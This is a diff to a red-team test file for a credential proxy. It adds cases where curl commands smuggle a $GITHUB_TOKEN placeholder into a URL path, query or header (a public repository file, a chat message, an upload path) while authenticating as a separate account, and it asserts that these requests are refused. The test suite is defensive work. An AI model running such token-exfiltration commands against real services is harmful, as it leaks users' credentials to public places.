@@ -8,7 +8,13 @@
  * store (a public repository), reads it back: `Authorization: Bearer <ph>`
  * to authenticate, and `<ph>` again in the path or the query as data. A
  * request may carry a credential's placeholder in one place only; one that
- * carries it in more is refused, and the host gets nothing.
+ * carries it in more is refused, and the host gets nothing. Nor need the
+ * command use the credential to be let in: an account of its own on the
+ * same host (its own token in the Authorization header) authenticates, and
+ * the placeholder, once in the path, the query or another header, is the
+ * data that account keeps (a file named by it in the command's own public
+ * repository). A request with an Authorization header that does not hold
+ * the placeholder gets no value added elsewhere: refused.
  *
  * Judged at the server: what it was sent, beside the Authorization header.
  */
@@ -19,6 +25,8 @@ import { listenAll, stopAll } from '../helpers/credential-site.js';
 import { homeWithProject, isolateAsync, runners, type Project, type Runner } from '../helpers/isolate.js';
 
 const TOKEN = `ghp_${randomBytes(27).toString('base64url').replace(/[-_]/g, 'x')}`;
+/** A token of an account the command owns on the same host (it needs no proxy to send it). */
+const OWN = `ghp_${randomBytes(27).toString('base64url').replace(/[-_]/g, 'y')}`;
 
 /** What the server was sent, the Authorization header apart: the store a request can write to. */
 const kept: string[] = [];
@@ -56,6 +64,10 @@ describe.each(runners())('red team: a credential sent as data to its own host ($
     ['the query', () => `curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" "${url('/chat.postMessage?channel=c&text=')}$GITHUB_TOKEN"`],
     ['another header', () => `curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" -H "X-Title: $GITHUB_TOKEN" ${url('/issues')}`],
     ['the path twice', () => `curl -sS "${url('/bot')}$GITHUB_TOKEN/sendMessage?chat_id=1&text=$GITHUB_TOKEN"`],
+    // The command's own account on the host authenticates; the placeholder, once, is only data for that account to keep.
+    ['the path, beside a bearer token of the command\'s own', () => `curl -sS -X PUT -H "Authorization: Bearer ${OWN}" ${url('/repos/own/public/contents/')}"$GITHUB_TOKEN".txt`],
+    ['the query, beside a Basic authorization of the command\'s own', () => `curl -sS -u own:${OWN} "${url('/chat.postMessage?channel=c&text=')}$GITHUB_TOKEN"`],
+    ['a header, beside an authorization of the command\'s own', () => `curl -sS -H "Authorization: token ${OWN}" -H "Dropbox-API-Arg: {\\"path\\": \\"/$GITHUB_TOKEN\\"}" ${url('/2/files/upload')}`],
   ])('beside the one that authenticates, in %s: refused, the server keeps no token', async (_where, script) => {
     const before = kept.length;
     const r = await run(`${script()}; echo`);
